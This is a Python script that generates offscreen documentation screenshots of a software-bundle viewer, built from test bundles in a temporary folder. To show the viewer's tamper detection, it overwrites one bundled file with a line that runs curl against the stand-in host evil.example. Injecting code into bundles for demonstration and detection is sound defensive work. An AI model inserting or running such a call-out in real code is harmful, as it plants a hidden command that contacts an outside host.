"""Render IT's bundle view to docs/screenshots/bundle-view*.png (offscreen, no network).

Run from the repository root: ``QT_QPA_PLATFORM=offscreen .venv/bin/python docs/make_bundle_view_screenshots.py``.
The bundles are the test suite's tiny project (a real lock, a real venv and harness run against a local
wheelhouse), built in a temporary folder; nothing of the user's is read or changed.
"""
from __future__ import annotations

import os
import shutil
import sys
import tempfile
from pathlib import Path

from PySide6.QtCore import QEventLoop

ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "docs" / "screenshots"
SIZE = (1280, 900)


def main() -> int:
    os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")
    scratch = Path(tempfile.gettempdir()) / "handoff-bundle-screenshots"
    shutil.rmtree(scratch, ignore_errors=True)
    for name in ("HANDOFF_DATA_DIR", "HANDOFF_CACHE_DIR", "HANDOFF_LOG_DIR"):
        os.environ[name] = str(scratch / name.lower())
    sys.path.insert(0, str(ROOT))
    earlier, bundle, tampered = build_bundles(scratch)

    from PySide6.QtCore import QSettings
    from PySide6.QtWidgets import QApplication

    from handoff_assistant.gui.main_window import MainWindow
    from handoff_assistant.gui.settings import AppSettings
    from handoff_assistant.gui.theme import apply_theme

    app = QApplication([sys.argv[0]])
    apply_theme(app, "light")
    window = MainWindow(AppSettings(QSettings(str(scratch / "settings.ini"), QSettings.Format.IniFormat)))
    window.resize(*SIZE)
    window.show()
    view = open_view(app, window, bundle)
    save(app, window, "bundle-view")
    view.tabs.setCurrentIndex(4)
    save(app, window, "bundle-view-configuration")
    wait(app, view.compared, lambda: view.compare_with(earlier))
    save(app, window, "bundle-view-changes")
    panel = view.prepare
    view.tabs.setCurrentWidget(panel)
    config = scratch / "config.yaml"
    config.write_text('score_factor: "2"\n')
    panel.workdir_edit.setText(str(scratch / "work"))
    panel.config_edit.setText(str(config))
    wait(app, panel.run_finished, panel.start)  # no MAIL_API_TOKEN: the configuration check fails and says why
    panel.table.setCurrentIndex(panel.results.index(1, 0))
    save(app, window, "bundle-view-prepare")
    open_view(app, window, tampered)
    save(app, window, "bundle-view-tampered")
    window.close()
    shutil.rmtree(scratch, ignore_errors=True)
    return 0


def build_bundles(scratch: Path) -> tuple[Path, Path, Path]:
    """An earlier and a later bundle of the tiny project (locked with hashes), and a tampered copy."""
    from handoff_assistant.bundle import BundleOptions
    from handoff_assistant.bundle.writer import write_bundle
    from tests.bundle.helpers import inputs_for, make_project, make_wheelhouse
    from tests.support.wheelhouse import offline_pip_env

    pip_env = offline_pip_env(make_wheelhouse(scratch / "wheelhouse"))
    os.environ.update({k: v for k, v in pip_env.items() if k.startswith("PIP_")})
    built = []
    for version in ("1", "2"):
        project = make_project(scratch / f"v{version}" / "tiny-scorer")
        if version == "2":
            (project / "tinyscore" / "report.py").write_text('"""Weekly summary of the scores."""\n\n'
                                                             "def summary(rows):\n    return len(rows)\n")
        built.append(write_bundle(inputs_for(project), BundleOptions(
            scratch / f"outbox-{version}", zip=True, engine="pip-tools", pip_env=pip_env)).path)
    tampered = scratch / "tampered"
    shutil.copytree(scratch / "v2" / "tiny-scorer", tampered / "src")
    folder = write_bundle(inputs_for(tampered / "src"), BundleOptions(tampered / "out", zip=False,
                                                                      engine="pip-tools", pip_env=pip_env)).path
    (folder / "code" / "tinyscore" / "score.py").write_text("import os\nos.system('curl https://evil.example')\n")
    return built[0], built[1], folder


def open_view(app, window, path: Path):
    view = window.open_bundle_view(path)
    wait(app, view.loaded, lambda: None)
    return view


def wait(app, signal, start) -> None:
    done = []
    signal.connect(lambda *args: done.append(True))
    start()
    while not done:
        app.processEvents(QEventLoop.ProcessEventsFlag.WaitForMoreEvents)


def save(app, window, name: str) -> None:
    for _ in range(3):
        app.processEvents()
    path = OUT / f"{name}.png"
    window.grab().save(str(path))
    print(path)


if __name__ == "__main__":
    raise SystemExit(main())
